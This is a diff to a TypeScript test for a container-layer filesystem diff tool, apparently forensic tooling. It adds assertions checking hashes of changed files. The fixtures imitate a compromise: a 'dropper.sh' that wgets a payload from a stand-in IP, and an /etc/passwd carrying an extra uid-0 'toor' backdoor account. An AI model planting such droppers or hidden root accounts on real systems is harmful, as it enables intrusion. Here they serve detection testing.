@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -20,6 +21,8 @@ beforeAll(async () => {
 }, 180_000);
 
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
 
 const letters: Record<string, string> = {
   file: 'f',
@@ -69,6 +72,14 @@ describe('a container’s filesystem rebuilt from its layer directories', () => 
       'run',
       'sys',
     ]);
+    const hashOf = (path: string) => changes.find((change) => change.path === path)?.sha256;
+    expect(hashOf('tmp/dropper.sh')).toBe(sha256('#!/bin/sh\nwget http://203.0.113.9/x\n'));
+    expect(hashOf('etc/passwd')).toBe(
+      sha256(
+        'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\ntoor:x:0:0::/root:/bin/sh\n',
+      ),
+    );
+    expect(hashOf('bin/wget')).toBeUndefined();
   });
 
   it('shows no changes for a container nobody touched, and never counts the image’s own whiteouts', () => {
